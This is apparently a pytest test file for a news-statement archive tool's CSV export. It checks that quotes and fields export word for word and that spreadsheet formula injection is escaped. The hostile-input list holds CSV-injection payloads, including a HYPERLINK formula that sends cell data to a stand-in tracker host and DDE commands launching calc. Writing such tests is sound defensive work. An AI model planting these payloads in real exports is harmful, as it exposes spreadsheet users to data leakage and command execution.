import csv
import io
from dataclasses import replace

import pytest

from assistant.answer.pipeline import Assistant
from assistant.service.browse import Browser, StatementEntry
from assistant.service.spreadsheet import COLUMNS, statements_csv
from corpus.archive.values import StatementFilters
from corpus.attribution import Speaker, SpeakerKind


@pytest.fixture
def said(assistant: Assistant) -> StatementEntry:
    return Browser(assistant.archive).statements(StatementFilters(speaker="Podolyak"), limit=1).items[0]


def table(text: str) -> list[dict[str, str]]:
    assert text[0] == "\ufeff"
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_every_statement_is_a_line_with_its_sentences_word_for_word(assistant: Assistant) -> None:
    statements = Browser(assistant.archive).statements(StatementFilters(), limit=500).items
    rows = table(statements_csv(statements))
    assert len(rows) == len(statements)
    assert tuple(rows[0]) == COLUMNS
    for row, one in zip(rows, statements, strict=True):
        assert row["sentences"].lstrip("'") == " ".join(" ".join(c.quote.split()) for c in one.sentences)
        assert row["published"] == str(one.article.published or "")
        assert (row["stance"], row["act"]) == (one.stance, one.act)


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://tracker.example/?"&A1,"open")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r\n=1+1",
        "  =1+1",
        "\x00=1+1",
        "\u00a0=1+1",
        "＝1+1",
        "|calc",
    ],
)
def test_nothing_is_a_formula(said: StatementEntry, hostile: str) -> None:
    bad = replace(
        said,
        speaker=Speaker(hostile, SpeakerKind.PERSON, hostile),
        cue=hostile,
        content=hostile,
        sentences=tuple(replace(citation, quote=hostile) for citation in said.sentences),
        article=replace(said.article, outlet=hostile, title=hostile, url=hostile),
    )
    (row,) = table(statements_csv([bad]))
    for value in row.values():
        assert value.lstrip("\x00 ")[:1] not in "=+-@＝＋－＠|" or value == ""
        assert not any(ord(character) < 32 for character in value)
    assert row["title"].startswith("'")


def test_quotation_marks_commas_and_line_breaks_stay_in_their_cell(said: StatementEntry) -> None:
    (row,) = table(statements_csv([replace(said, content='one, "two"\n=three', cue="plain")]))
    assert (row["content"], row["cue"]) == ('one, "two" =three', "plain")
